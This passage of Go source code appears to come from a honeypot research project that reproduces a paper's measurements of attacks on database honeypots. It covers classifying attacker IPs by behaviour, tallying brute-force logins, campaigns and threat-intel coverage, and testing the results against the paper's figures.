		if b := Step(dbms, a.Name, a.Raw); b > best {
			best = b
		}
	}
	return best
}

// IP classifies a source across the honeypots selected by q (its DBMS
// and Tier fields, see evstore.Query.MatchKey; the zero Query selects
// all): the most intrusive behaviour observed anywhere wins.
func IP(rec *evstore.IPRecord, q evstore.Query) Behavior {
	best := Scanning
	for k, act := range rec.Per {
		if !q.MatchKey(k) {
			continue
		}
		if b := Activity(k.DBMS, act); b > best {
			best = b
			if best == Exploiting {
				break
			}
		}
	}
	return best
}

// MediumHigh selects medium/high-interaction activity.
var MediumHigh = evstore.Query{Tier: evstore.MediumHighTier}

// ForDBMS returns a query selecting medium/high activity on one DBMS.
func ForDBMS(dbms string) evstore.Query {
	return evstore.Query{DBMS: dbms, Tier: evstore.MediumHighTier}
}

// Counts tallies behaviours for a set of records under a query.
type Counts struct {
	IPs        int
	Scanning   int
	Scouting   int
	Exploiting int
}

// Count classifies every record that has activity matching q.
func Count(recs []*evstore.IPRecord, q evstore.Query) Counts {
	var c Counts
	for _, r := range recs {
		touched := false
		for k := range r.Per {
			if q.MatchKey(k) {
				touched = true
				break
			}
		}
		if !touched {
			continue
		}
		c.IPs++
		switch IP(r, q) {
		case Scanning:
			c.Scanning++
		case Scouting:
			c.Scouting++
		case Exploiting:
			c.Exploiting++
		}
	}
	return c
}
