package experiments

import (
	"fmt"
	"strings"

	"decoydb/internal/analysis"
	"decoydb/internal/core"
	"decoydb/internal/evstore"
	"decoydb/internal/intel"
	"decoydb/internal/report"
)

// Headline reproduces the headline dataset counts from Sections 5 and 6.
func Headline(ds *Dataset) report.Artifact {
	var low, mh int
	for _, r := range ds.Recs {
		hasLow, hasMH := false, false
		for k := range r.Per {
			if k.Level == core.Low {
				hasLow = true
			} else {
				hasMH = true
			}
		}
		if hasLow {
			low++
		}
		if hasMH {
			mh++
		}
	}
	hourly := ds.Snap.HourlyUnique(evstore.Query{})
	sum := 0
	for _, h := range hourly {
		sum += h
	}
	cum := ds.Snap.CumulativeNew(evstore.Query{})
	var b strings.Builder
	fmt.Fprintf(&b, "low-interaction unique IPs: %d (paper 3,340)\n", low)
	fmt.Fprintf(&b, "medium/high unique IPs:     %d (paper 3,665)\n", mh)
	fmt.Fprintf(&b, "exploitative IPs:           %d (paper 324)\n", len(ds.Pop.Exploiters))
	fmt.Fprintf(&b, "avg clients/hour (low):     %.1f (paper ~50)\n", float64(sum)/float64(len(hourly)))
	fmt.Fprintf(&b, "avg new clients/hour:       %.1f (paper ~7)\n", float64(cum[len(cum)-1])/float64(len(cum)))
	fmt.Fprintf(&b, "total events ingested:      %d\n", ds.Snap.Events())
	return report.Artifact{ID: "H1", Title: "Headline dataset counts", Body: b.String()}
}

// BruteStats reproduces the Section 5 brute-force statistics.
func BruteStats(ds *Dataset) report.Artifact {
	st := analysis.BruteForce(ds.Snap)
	var b strings.Builder
	fmt.Fprintf(&b, "scale factor: 1/%d (volumes below are scaled; rescaled in parens)\n", ds.Scale)
	fmt.Fprintf(&b, "total logins:        %d (~%d; paper 18,162,811)\n", st.TotalLogins, st.TotalLogins*int64(ds.Scale))
	fmt.Fprintf(&b, "brute-force clients: %d (paper 599)\n", st.Clients)
	fmt.Fprintf(&b, "avg attempts/client: %.0f (~%.0f; paper 5,373 — an order above SSH studies)\n",
		st.AvgPerClient, st.AvgPerClient*float64(ds.Scale))
	fmt.Fprintf(&b, "unique combinations: %d (paper 240,131 at scale 1)\n", st.UniqueCombos)
	fmt.Fprintf(&b, "unique usernames:    %d (paper 14,540 at scale 1)\n", st.UniqueUsers)
	fmt.Fprintf(&b, "unique passwords:    %d (paper 226,961 at scale 1)\n", st.UniquePasses)
	fmt.Fprintf(&b, "heaviest source:     %d logins from %s (paper: ~4M each from 4 Russian IPs on AS208091)\n",
		st.HeaviestIPLogins, st.HeaviestIPCountry)
	mssql := ds.Snap.Logins(evstore.Query{DBMS: core.MSSQL, Tier: evstore.LowTier})
	fmt.Fprintf(&b, "MSSQL share:         %.2f%% (paper 18,076,729/18,162,811 = 99.5%%)\n",
		100*float64(mssql)/float64(max64(st.TotalLogins, 1)))
	fmt.Fprintf(&b, "Redis logins:        %d (paper 0)\n", ds.Snap.Logins(evstore.Query{DBMS: core.Redis, Tier: evstore.LowTier}))
	return report.Artifact{ID: "X1", Title: "Section 5 brute-force statistics", Body: b.String()}
}

func max64(a, b int64) int64 {
	if a > b {
		return a
	}
	return b
}

// ControlGroup reproduces the multi- vs single-service host comparison.
func ControlGroup(ds *Dataset) report.Artifact {
	st := analysis.ControlGroup(ds.Recs)
	var b strings.Builder
	fmt.Fprintf(&b, "IPs on single-service hosts: %d (paper 1,720)\n", st.SingleIPs)
	fmt.Fprintf(&b, "IPs on multi-service hosts:  %d (paper 3,163)\n", st.MultiIPs)
	fmt.Fprintf(&b, "overlap:                     %d (paper 1,543)\n", st.Overlap)
	fmt.Fprintf(&b, "brute-forced single only:    %d (paper 41)\n", st.BruteSingleOnly)
	fmt.Fprintf(&b, "brute-forced multi only:     %d (paper 295)\n", st.BruteMultiOnly)
	b.WriteString("conclusion: target choice is driven by the DBMS, not by how many services share the host\n")
	return report.Artifact{ID: "X2", Title: "Multi- vs single-service control group", Body: b.String()}
}

// IntelCoverage reproduces the threat-intelligence cross-reference of
// Sections 5 and 6.2: brute-forcers are broadly known, exploiters are not.
func IntelCoverage(ds *Dataset) report.Artifact {
	feeds := []*intel.Feed{
		ds.Feeds[intel.GreyNoise], ds.Feeds[intel.AbuseIPDB],
		ds.Feeds[intel.TeamCymru], ds.Feeds[intel.FEODO],
	}
	t := &report.Table{
		Title:  "Threat-intel coverage",
		Header: []string{"population", "platform", "listed", "flagged malicious"},
	}
	addRows := func(name string, stats []intel.Stat) {
		for _, s := range stats {
			t.AddRow(name, s.Feed,
				fmt.Sprintf("%d/%d (%.0f%%)", s.Listed, s.Total, s.ListedPct()),
				fmt.Sprintf("%d (%.0f%%)", s.Malicious, s.MaliciousPct()))
		}
	}
	addRows("brute-forcers", intel.CrossReference(feeds, ds.Pop.BruteForcers))
	addRows("exploiters", intel.CrossReference(feeds, ds.Pop.Exploiters))
	t.Note = "paper: brute-forcers — GreyNoise 21% malicious, AbuseIPDB 65% reported, Cymru 48%; exploiters — GreyNoise 11%, AbuseIPDB 15%, Cymru 2%, FEODO 0"
	return report.Artifact{ID: "X3", Title: "Threat-intelligence coverage gap", Body: t.String()}
}

// ConfigEffects reproduces the honeypot-configuration comparisons from
// Section 6.
func ConfigEffects(ds *Dataset) report.Artifact {
	ce := analysis.ConfigEffect(ds.Recs)
	var b strings.Builder
	ratio := float64(ce.PGRestrictedLogins) / float64(max64(ce.PGOpenLogins, 1))
	fmt.Fprintf(&b, "PostgreSQL medium-tier logins: restricted=%d open=%d ratio=%.2f (paper 29,217 vs 14,084 = 2.07)\n",
		ce.PGRestrictedLogins, ce.PGOpenLogins, ratio)
	fmt.Fprintf(&b, "Redis TYPE probes: fake-data=%d default=%d (paper: TYPE-walking seen only with fake data)\n",
		ce.RedisFakeTypeCmds, ce.RedisDefaultTypeCmds)
	return report.Artifact{ID: "X4", Title: "Honeypot configuration effects", Body: b.String()}
}

// Ransom reproduces the Section 6.3 MongoDB ransom case study.
func Ransom(ds *Dataset) report.Artifact {
	st := analysis.Ransom(ds.Recs)
	var b strings.Builder
	fmt.Fprintf(&b, "ransom IPs:            %d (paper 62)\n", st.IPs)
	fmt.Fprintf(&b, "note templates:        %d (paper 2)\n", st.Templates)
	fmt.Fprintf(&b, "notes inserted:        %d (scripts return over days, replacing earlier notes)\n", st.Notes)
	b.WriteString("pattern: enumerate -> dump -> delete -> insert note; no encryption involved\n")
	return report.Artifact{ID: "X5", Title: "MongoDB data theft and ransom", Body: b.String()}
}

// Institutional reproduces the institutional-scanner share of scanning
// traffic per medium/high honeypot (Section 6.1).
func Institutional(ds *Dataset) report.Artifact {
	share := analysis.InstitutionalShare(ds.Recs)
	t := &report.Table{
		Title:  "Institutional share of scanning-classified IPs",
		Header: []string{"DBMS", "institutional", "scanners", "share"},
	}
	for _, dbms := range analysis.MHDBMSes {
		v := share[dbms]
		t.AddRow(dbms, v[0], v[1], fmt.Sprintf("%.0f%%", pct(v[0], v[1])))
	}
	t.Note = "paper: elastic 456 (75%), mongodb 415 (59%), postgres 909 (80%), redis 379 (55%)"
	return report.Artifact{ID: "X6", Title: "Institutional scanners on medium/high honeypots", Body: t.String()}
}
