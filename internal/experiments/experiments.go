package experiments

import "decoydb/internal/report"

// Experiment is one reproducible paper artefact.
type Experiment struct {
	ID    string
	Title string
	Run   func(*Dataset) report.Artifact
}

// All lists every reproduced table and figure in paper order.
var All = []Experiment{
	{ID: "H1", Title: "Headline dataset counts", Run: Headline},
	{ID: "T4", Title: "Table 4: deployment", Run: Table4},
	{ID: "F2", Title: "Figure 2: hourly clients (low tier)", Run: Figure2},
	{ID: "F3", Title: "Figure 3: retention CDF by DBMS", Run: Figure3},
	{ID: "T5", Title: "Table 5: login attempts by country", Run: Table5},
	{ID: "T6", Title: "Table 6: top ASNs", Run: Table6},
	{ID: "T7", Title: "Table 7: login IPs by AS type", Run: Table7},
	{ID: "T12", Title: "Table 12: top MSSQL credentials", Run: Table12},
	{ID: "X1", Title: "Brute-force statistics", Run: BruteStats},
	{ID: "X2", Title: "Control group comparison", Run: ControlGroup},
	{ID: "F4", Title: "Figure 4: honeypot intersections", Run: Figure4},
	{ID: "T8", Title: "Table 8: classification and clusters", Run: Table8},
	{ID: "T9", Title: "Table 9: attack campaigns", Run: Table9},
	{ID: "T10", Title: "Table 10: exploiter countries", Run: Table10},
	{ID: "T11", Title: "Table 11: AS types vs behaviour", Run: Table11},
	{ID: "F5", Title: "Figure 5: retention by behaviour", Run: Figure5},
	{ID: "F6-F9", Title: "Figures 6-9: per-DBMS hourly series", Run: Figures6to9},
	{ID: "X3", Title: "Threat-intel coverage", Run: IntelCoverage},
	{ID: "X4", Title: "Configuration effects", Run: ConfigEffects},
	{ID: "X5", Title: "Ransom case study", Run: Ransom},
	{ID: "X6", Title: "Institutional scanners", Run: Institutional},
}

// RunAll executes every experiment against the dataset.
func RunAll(ds *Dataset) []report.Artifact {
	out := make([]report.Artifact, 0, len(All))
	for _, e := range All {
		out = append(out, e.Run(ds))
	}
	return out
}

// ByID returns the experiment with the given ID, or nil.
func ByID(id string) *Experiment {
	for i := range All {
		if All[i].ID == id {
			return &All[i]
		}
	}
	return nil
}
