package experiments

import (
	"context"
	"regexp"
	"strconv"
	"strings"
	"sync"
	"testing"

	"decoydb/internal/classify"
	"decoydb/internal/core"
)

var (
	tdsOnce sync.Once
	tds     *Dataset
	tdsErr  error
)

// testDataset builds one compressed dataset shared by all experiment
// tests (building it is the expensive part).
func testDataset(t *testing.T) *Dataset {
	t.Helper()
	if testing.Short() {
		t.Skip("full simulation dataset")
	}
	tdsOnce.Do(func() {
		tds, tdsErr = Build(context.Background(), 1, 4096)
	})
	if tdsErr != nil {
		t.Fatal(tdsErr)
	}
	return tds
}

func TestAllExperimentsProduceArtifacts(t *testing.T) {
	ds := testDataset(t)
	seen := map[string]bool{}
	for _, e := range All {
		art := e.Run(ds)
		if art.ID != e.ID {
			t.Errorf("%s: artefact ID = %q", e.ID, art.ID)
		}
		if len(art.Body) < 40 {
			t.Errorf("%s: suspiciously short body: %q", e.ID, art.Body)
		}
		if seen[e.ID] {
			t.Errorf("duplicate experiment ID %s", e.ID)
		}
		seen[e.ID] = true
	}
}

func TestByID(t *testing.T) {
	if ByID("T5") == nil || ByID("T5").ID != "T5" {
		t.Fatal("ByID(T5)")
	}
	if ByID("nope") != nil {
		t.Fatal("ByID(nope) non-nil")
	}
}

func TestTable8MatchesPaperQuotas(t *testing.T) {
	ds := testDataset(t)
	want := map[string][3]int{
		core.Elastic:  {608, 627, 2},
		core.MongoDB:  {706, 465, 62},
		core.Postgres: {1140, 593, 222},
		core.Redis:    {676, 266, 38},
	}
	for dbms, w := range want {
		c := classify.Count(ds.Recs, classify.ForDBMS(dbms))
		if c.Scanning != w[0] || c.Scouting != w[1] || c.Exploiting != w[2] {
			t.Errorf("%s: %d/%d/%d, want %d/%d/%d", dbms,
				c.Scanning, c.Scouting, c.Exploiting, w[0], w[1], w[2])
		}
	}
}

func TestTable8ClusterCountsInRange(t *testing.T) {
	ds := testDataset(t)
	// The paper found 20–79 clusters per honeypot; the reproduction must
	// land in the same order of magnitude, not degenerate to 1 or to N.
	for _, dbms := range []string{core.Elastic, core.MongoDB, core.Postgres, core.Redis} {
		res, _ := ds.ClusterFor(dbms)
		if res.Clusters < 10 || res.Clusters > 150 {
			t.Errorf("%s: %d clusters, outside plausible range", dbms, res.Clusters)
		}
	}
}

// artRows extracts "name number" pairs from a rendered table column.
var rowRe = regexp.MustCompile(`(?m)^(\S+)\s+(\d+)`)

func TestTable9CampaignIPCounts(t *testing.T) {
	ds := testDataset(t)
	body := Table9(ds).Body
	want := map[string]int{
		"p2pinfect":              35,
		"abcbot":                 1,
		"kinsing":                196,
		"privilege-manipulation": 26,
		"ransom":                 62,
		"cve-2022-0543":          1,
		"cve-2023-41892":         2,
		"cve-2021-22005":         15,
		"jdwp-scan":              2,
		"lucifer":                2,
	}
	for tag, n := range want {
		re := regexp.MustCompile(`(?m)` + regexp.QuoteMeta(tag) + `\s+(\d+)`)
		m := re.FindStringSubmatch(body)
		if m == nil {
			t.Errorf("campaign %s missing from Table 9:\n%s", tag, body)
			continue
		}
		got, _ := strconv.Atoi(m[1])
		if got != n {
			t.Errorf("campaign %s: %d IPs, want %d", tag, got, n)
		}
	}
	// RDP appears twice (redis and postgres rows).
	re := regexp.MustCompile(`(?m)rdp-scan\s+(\d+)`)
	ms := re.FindAllStringSubmatch(body, -1)
	if len(ms) != 2 {
		t.Fatalf("rdp-scan rows = %d", len(ms))
	}
	redisN, _ := strconv.Atoi(ms[0][1])
	pgN, _ := strconv.Atoi(ms[1][1])
	if redisN != 14 || pgN != 164 {
		t.Errorf("rdp-scan IPs = %d/%d, want 14/164", redisN, pgN)
	}
}

func TestTable5OrderedByVolume(t *testing.T) {
	ds := testDataset(t)
	body := Table5(ds).Body
	// Russia must lead by a wide margin, and MSSQL must dominate its row.
	lines := strings.Split(body, "\n")
	var ruLine string
	for _, l := range lines {
		if strings.HasPrefix(l, "RU") {
			ruLine = l
			break
		}
	}
	if ruLine == "" {
		t.Fatalf("no RU row in:\n%s", body)
	}
	first := rowRe.FindStringSubmatch(strings.Join(lines[3:], "\n"))
	if first == nil || first[1] != "RU" {
		t.Errorf("top login country = %v, want RU\n%s", first, body)
	}
}

func TestTable12TopCredential(t *testing.T) {
	ds := testDataset(t)
	body := Table12(ds).Body
	lines := strings.Split(body, "\n")
	var firstRow string
	for i, l := range lines {
		if strings.HasPrefix(l, "---") && i+1 < len(lines) {
			firstRow = lines[i+1]
			break
		}
	}
	if !strings.HasPrefix(firstRow, "sa") || !strings.Contains(firstRow, "123") {
		t.Errorf("top credential row = %q, want sa/123", firstRow)
	}
}

func TestRansomExperiment(t *testing.T) {
	ds := testDataset(t)
	body := Ransom(ds).Body
	if !strings.Contains(body, "ransom IPs:            62") {
		t.Errorf("ransom IPs not 62:\n%s", body)
	}
	if !strings.Contains(body, "note templates:        2") {
		t.Errorf("note templates not 2:\n%s", body)
	}
}

func TestConfigEffectsDirection(t *testing.T) {
	ds := testDataset(t)
	// The restricted PostgreSQL config must attract more logins than the
	// open one (paper: 2.07x) and TYPE-walking must be fake-data-only.
	ce := ConfigEffects(ds)
	if !strings.Contains(ce.Body, "restricted=") {
		t.Fatalf("missing fields:\n%s", ce.Body)
	}
	re := regexp.MustCompile(`restricted=(\d+) open=(\d+)`)
	m := re.FindStringSubmatch(ce.Body)
	if m == nil {
		t.Fatalf("cannot parse:\n%s", ce.Body)
	}
	restricted, _ := strconv.Atoi(m[1])
	open, _ := strconv.Atoi(m[2])
	if restricted <= open {
		t.Errorf("restricted (%d) not above open (%d)", restricted, open)
	}
	if ratio := float64(restricted) / float64(open); ratio < 1.3 || ratio > 4 {
		t.Errorf("restricted/open ratio = %.2f, paper 2.07", ratio)
	}
}

func TestIntelCoverageGap(t *testing.T) {
	ds := testDataset(t)
	body := IntelCoverage(ds).Body
	// FEODO must know nobody; exploiters must be less covered than
	// brute-forcers on Team Cymru.
	if !strings.Contains(body, "feodo") {
		t.Fatalf("missing feodo rows:\n%s", body)
	}
	re := regexp.MustCompile(`(?m)^(\S+)\s+teamcymru\s+(\d+)/`)
	ms := re.FindAllStringSubmatch(body, -1)
	if len(ms) != 2 {
		t.Fatalf("teamcymru rows = %d", len(ms))
	}
	brute, _ := strconv.Atoi(ms[0][2])
	exp, _ := strconv.Atoi(ms[1][2])
	if exp >= brute {
		t.Errorf("exploiter coverage (%d) not below brute coverage (%d)", exp, brute)
	}
}

func TestFigure5ExploitersPersist(t *testing.T) {
	ds := testDataset(t)
	body := Figure5(ds).Body
	re := regexp.MustCompile(`scanners (\d+)% done vs exploiters (\d+)% done`)
	m := re.FindStringSubmatch(body)
	if m == nil {
		t.Fatalf("cannot parse:\n%s", body)
	}
	scan, _ := strconv.Atoi(m[1])
	exp, _ := strconv.Atoi(m[2])
	if exp >= scan {
		t.Errorf("exploiters (%d%% done at day 3) not more persistent than scanners (%d%%)", exp, scan)
	}
}

func TestDatasetClusterCache(t *testing.T) {
	ds := testDataset(t)
	a, _ := ds.ClusterFor(core.Redis)
	b, _ := ds.ClusterFor(core.Redis)
	if a.Clusters != b.Clusters || len(a.Labels) != len(b.Labels) {
		t.Fatal("cluster cache not stable")
	}
}
