package experiments

import (
	"fmt"
	"strings"

	"decoydb/internal/analysis"
	"decoydb/internal/classify"
	"decoydb/internal/core"
	"decoydb/internal/evstore"
	"decoydb/internal/report"
)

// Figure2 reproduces the temporal distribution of low-tier clients:
// per-hour unique client IPs and cumulative new uniques over 20 days.
func Figure2(ds *Dataset) report.Artifact {
	return hourlyFigure(ds, "F2", "Figure 2: hourly clients on low-interaction honeypots (all DBMS)", "")
}

// Figures6to9 reproduces the per-DBMS hourly series from Appendix C.
func Figures6to9(ds *Dataset) report.Artifact {
	var b strings.Builder
	for _, f := range []struct {
		id, dbms string
	}{
		{"F6", core.MSSQL}, {"F7", core.MySQL}, {"F8", core.Postgres}, {"F9", core.Redis},
	} {
		art := hourlyFigure(ds, f.id, fmt.Sprintf("Figure %s: hourly clients on low-interaction %s honeypots", f.id[1:], f.dbms), f.dbms)
		b.WriteString(art.Body)
		b.WriteByte('\n')
	}
	return report.Artifact{ID: "F6-F9", Title: "Figures 6-9: per-DBMS hourly client series", Body: b.String()}
}

func hourlyFigure(ds *Dataset, id, title, dbms string) report.Artifact {
	hourly := ds.Snap.HourlyUnique(evstore.Query{DBMS: dbms})
	cum := ds.Snap.CumulativeNew(evstore.Query{DBMS: dbms})
	var b strings.Builder
	b.WriteString(report.IntStats("clients/hour", hourly))
	// New uniques per hour = diff of the cumulative series.
	newPerHour := make([]int, len(cum))
	prev := 0
	for i, c := range cum {
		newPerHour[i] = c - prev
		prev = c
	}
	b.WriteString(report.IntStats("new clients/hour", newPerHour))
	fmt.Fprintf(&b, "cumulative uniques: day5=%d day10=%d day15=%d day20=%d\n",
		cum[5*24-1], cum[10*24-1], cum[15*24-1], cum[len(cum)-1])
	// Daily midline samples give the series shape.
	var pts []string
	for d := 0; d < ds.Snap.Days(); d++ {
		pts = append(pts, fmt.Sprintf("d%d:%d", d, hourly[d*24+12]))
	}
	fmt.Fprintf(&b, "noon samples: %s\n", strings.Join(pts, " "))
	return report.Artifact{ID: id, Title: title, Body: b.String()}
}

// cdfDays are the retention days the text-rendered CDFs report.
var cdfDays = []int{1, 2, 3, 5, 10, 15, 20}

// Figure3 reproduces the low-tier client-retention CDF per DBMS.
func Figure3(ds *Dataset) report.Artifact {
	samples := analysis.LowRetentionByDBMS(ds.Recs)
	var b strings.Builder
	order := []string{"", core.MySQL, core.Postgres, core.Redis, core.MSSQL}
	for _, dbms := range order {
		name := dbms
		if name == "" {
			name = "all"
		}
		cdf := analysis.RetentionCDF(samples[dbms], ds.Snap.Days())
		ys := make([]float64, len(cdfDays))
		for i, d := range cdfDays {
			ys[i] = cdf.At(d)
		}
		b.WriteString(report.Series("CDF("+name+")", cdfDays, ys))
	}
	all := analysis.RetentionCDF(samples[""], ds.Snap.Days())
	fmt.Fprintf(&b, "single-day clients: %.1f%% (paper: 43%%)\n", 100*all.At(1))
	return report.Artifact{ID: "F3", Title: "Figure 3: CDF of client retention by DBMS (low tier)", Body: b.String()}
}

// Figure4 reproduces the upset plot of IP intersections across the
// medium/high honeypots.
func Figure4(ds *Dataset) report.Artifact {
	rows := analysis.Upset(ds.Recs)
	t := &report.Table{
		Title:  "IP intersections across medium/high honeypots",
		Header: []string{"combination", "IPs"},
	}
	for _, r := range rows {
		t.AddRow(r.Combo, r.Count)
	}
	perDBMS := map[string]int{}
	total := 0
	single := 0
	for _, r := range rows {
		names := strings.Split(r.Combo, "+")
		for _, n := range names {
			perDBMS[n] += r.Count
		}
		total += r.Count
		if len(names) == 1 {
			single += r.Count
		}
	}
	t.Note = fmt.Sprintf(
		"unique mh IPs=%d (paper 3,665); single-honeypot share=%.0f%%; per-DBMS: elastic=%d mongodb=%d postgres=%d redis=%d (paper 1,237/1,233/1,955/980)",
		total, 100*float64(single)/float64(max(total, 1)),
		perDBMS[core.Elastic], perDBMS[core.MongoDB], perDBMS[core.Postgres], perDBMS[core.Redis])
	return report.Artifact{ID: "F4", Title: "Figure 4: medium/high honeypot IP intersections", Body: t.String()}
}

// Figure5 reproduces the retention CDF per behaviour class on the
// medium/high tier: exploiters persist, scanners are one-shot.
func Figure5(ds *Dataset) report.Artifact {
	samples := analysis.MHRetentionByBehavior(ds.Recs)
	var b strings.Builder
	for _, cls := range []classify.Behavior{classify.Scanning, classify.Scouting, classify.Exploiting} {
		cdf := analysis.RetentionCDF(samples[cls], ds.Snap.Days())
		ys := make([]float64, len(cdfDays))
		for i, d := range cdfDays {
			ys[i] = cdf.At(d)
		}
		b.WriteString(report.Series("CDF("+cls.String()+")", cdfDays, ys))
	}
	scan := analysis.RetentionCDF(samples[classify.Scanning], ds.Snap.Days())
	exp := analysis.RetentionCDF(samples[classify.Exploiting], ds.Snap.Days())
	fmt.Fprintf(&b, "3-day retention: scanners %.0f%% done vs exploiters %.0f%% done (paper: exploiters are the most persistent)\n",
		100*scan.At(3), 100*exp.At(3))
	return report.Artifact{ID: "F5", Title: "Figure 5: retention CDF by behaviour class (medium/high tier)", Body: b.String()}
}
