package experiments

import (
	"fmt"
	"sort"

	"decoydb/internal/analysis"
	"decoydb/internal/asdb"
	"decoydb/internal/classify"
	"decoydb/internal/cluster"
	"decoydb/internal/core"
	"decoydb/internal/evstore"
	"decoydb/internal/report"
)

// Table5 reproduces the top-10 countries by login attempts on the low
// tier. Measured counts are also rescaled by the run's scale factor for
// comparison against the paper's absolute volumes.
func Table5(ds *Dataset) report.Artifact {
	rows := analysis.CountryLoginTable(ds.Recs)
	t := &report.Table{
		Title:  fmt.Sprintf("Top-10 countries by login attempts (scale 1/%d)", ds.Scale),
		Header: []string{"country", "#logins", "~rescaled", "#IP/total", "mysql", "psql", "mssql"},
	}
	for i, r := range rows {
		if i >= 10 {
			break
		}
		t.AddRow(r.Country, r.Logins, r.Logins*int64(ds.Scale),
			fmt.Sprintf("%d/%d", r.LoginIPs, r.TotalIPs), r.MySQL, r.PSQL, r.MSSQL)
	}
	t.Note = "paper order: RU(16.6M) CN(884k) EE(161k) KR(98k) UA(97k) IR(75k) US(67k) GE(63k) GR(13k) IN(12k)"
	return report.Artifact{ID: "T5", Title: "Table 5: top-10 countries by login attempts", Body: t.String()}
}

// Table6 reproduces the top-10 ASes by IP count with their login split.
func Table6(ds *Dataset) report.Artifact {
	rows := analysis.TopASNs(ds.Recs)
	t := &report.Table{
		Title:  "Top-10 ASNs by IP count",
		Header: []string{"AS", "#IPs", "% of total", "#logins", "mysql", "mssql"},
	}
	for i, r := range rows {
		if i >= 10 {
			break
		}
		t.AddRow(fmt.Sprintf("%s (AS%d)", r.Name, r.ASN), r.IPs, r.Pct, r.Logins, r.MySQL, r.MSSQL)
	}
	t.Note = "paper order: HURRICANE 643, GOOGLE-CLOUD 560, DIGITALOCEAN 392, Constantine 252, AMAZON-AES 154, UCLOUD 142, Chinanet 112, China169 96, CENSYS 93, Akamai 91"
	return report.Artifact{ID: "T6", Title: "Table 6: top-10 ASNs by IP count and login distribution", Body: t.String()}
}

// Table7 reproduces the count of brute-forcing IPs per AS type.
func Table7(ds *Dataset) report.Artifact {
	counts := analysis.LoginIPsByASType(ds.Recs)
	t := &report.Table{
		Title:  "Brute-forcing IPs by AS type",
		Header: []string{"category", "#IPs"},
	}
	for _, ty := range asdb.Types() {
		if n := counts[ty]; n > 0 {
			t.AddRow(string(ty), n)
		}
	}
	t.Note = "paper: Hosting 286, Telecom 103, IP Service 35, ICT 25, Security 1, Unknown 148"
	return report.Artifact{ID: "T7", Title: "Table 7: login-attempting IPs by AS type", Body: t.String()}
}

// Table8 reproduces the per-honeypot classification and cluster counts.
func Table8(ds *Dataset) report.Artifact {
	t := &report.Table{
		Title:  "Medium/high honeypots: unique IPs, classification, clusters",
		Header: []string{"DBMS", "#IP", "scanning", "scouting", "exploiting", "#clusters"},
	}
	for _, dbms := range analysis.MHDBMSes {
		c := classify.Count(ds.Recs, classify.ForDBMS(dbms))
		res, _ := ds.ClusterFor(dbms)
		t.AddRow(dbms, c.IPs,
			fmt.Sprintf("%d (%.1f%%)", c.Scanning, pct(c.Scanning, c.IPs)),
			fmt.Sprintf("%d (%.1f%%)", c.Scouting, pct(c.Scouting, c.IPs)),
			fmt.Sprintf("%d (%.1f%%)", c.Exploiting, pct(c.Exploiting, c.IPs)),
			res.Clusters)
	}
	t.Note = "paper: elastic 1237 (608/627/2, 60 cls), mongodb 1233 (706/465/62, 30 cls), postgres 1955 (1140/593/222, 79 cls), redis 980 (676/266/38, 26 cls)"
	return report.Artifact{ID: "T8", Title: "Table 8: classification and clustering per medium/high honeypot", Body: t.String()}
}

func pct(n, total int) float64 {
	if total == 0 {
		return 0
	}
	return 100 * float64(n) / float64(total)
}

// table9Rows lists the campaign tags Table 9 reports, with the honeypot
// they target and the paper's IP counts.
var table9Rows = []struct {
	tag   string
	dbms  string
	paper string
}{
	{cluster.TagRDPScan, core.Redis, "14 IPs, 1 cl"},
	{cluster.TagJDWPScan, core.Redis, "2 IPs, 1 cl"},
	{cluster.TagRDPScan, core.Postgres, "164 IPs, 3 cl"},
	{cluster.TagCraftCMS, core.Elastic, "2 IPs, 1 cl"},
	{cluster.TagVMware, core.Elastic, "15 IPs, 2 cl"},
	{cluster.TagBruteForce, core.Redis, "5 IPs, 1 cl"},
	{cluster.TagBruteForce, core.Postgres, "84 IPs, 15 cl"},
	{cluster.TagPrivilege, core.Postgres, "25 IPs, 3 cl"},
	{cluster.TagRansom, core.MongoDB, "62 IPs, 2 cl"},
	{cluster.TagP2PInfect, core.Redis, "35 IPs, 1 cl"},
	{cluster.TagABCbot, core.Redis, "1 IP, 1 cl"},
	{cluster.TagKinsing, core.Postgres, "196 IPs, 4 cl"},
	{cluster.TagLucifer, core.Elastic, "2 IPs, 1 cl"},
	{cluster.TagRedisCVE, core.Redis, "1 IP, 1 cl"},
}

// Table9 reproduces the campaign summary: per attack, the number of IPs
// and behaviour clusters observed.
func Table9(ds *Dataset) report.Artifact {
	t := &report.Table{
		Title:  "Attack campaigns by type",
		Header: []string{"honeypot", "campaign", "#IPs", "#clusters", "paper"},
	}
	byAddr := map[string]*evstore.IPRecord{}
	for _, r := range ds.Recs {
		byAddr[r.Addr.String()] = r
	}
	for _, row := range table9Rows {
		res, raws := ds.ClusterFor(row.dbms)
		ips := 0
		clusters := map[int]bool{}
		for i, seq := range res.Sequences {
			tag := cluster.TagSequence(seq.Actions, raws[seq.ID])
			if tag == "" && row.tag == cluster.TagBruteForce {
				// Brute-force has no payload signature; detect via login
				// pressure (multiple attempts per active day) on the
				// matching DBMS, or repeated AUTH on Redis.
				if rec := byAddr[seq.ID]; rec != nil {
					days := int64(popcountMask(rec.ActiveDaysMask(classify.ForDBMS(row.dbms))))
					if n := mhLogins(rec, row.dbms); days > 0 && n >= 2*days {
						tag = cluster.TagBruteForce
					}
				}
				if row.dbms == core.Redis && countAction(seq.Actions, "AUTH") >= 3 {
					tag = cluster.TagBruteForce
				}
			}
			if tag != row.tag {
				continue
			}
			ips++
			clusters[res.Labels[i]] = true
		}
		t.AddRow(row.dbms, row.tag, ips, len(clusters), row.paper)
	}
	return report.Artifact{ID: "T9", Title: "Table 9: summary of honeypot attacks by type", Body: t.String()}
}

func mhLogins(rec *evstore.IPRecord, dbms string) int64 {
	var n int64
	for k, a := range rec.Per {
		if k.Level >= core.Medium && k.DBMS == dbms {
			n += a.Logins
		}
	}
	return n
}

func popcountMask(m uint64) int {
	n := 0
	for ; m != 0; m &= m - 1 {
		n++
	}
	return n
}

func countAction(actions []string, name string) int {
	n := 0
	for _, a := range actions {
		if a == name {
			n++
		}
	}
	return n
}

// Table10 reproduces the exploiting-IP country matrix.
func Table10(ds *Dataset) report.Artifact {
	rows := analysis.ExploiterCountries(ds.Recs)
	t := &report.Table{
		Title:  "Top-10 countries by exploiting IPs",
		Header: []string{"country", "#IP", "elastic", "mongodb", "psql", "redis"},
	}
	for i, r := range rows {
		if i >= 10 {
			break
		}
		t.AddRow(r.Country, r.Total,
			r.PerDBMS[core.Elastic], r.PerDBMS[core.MongoDB],
			r.PerDBMS[core.Postgres], r.PerDBMS[core.Redis])
	}
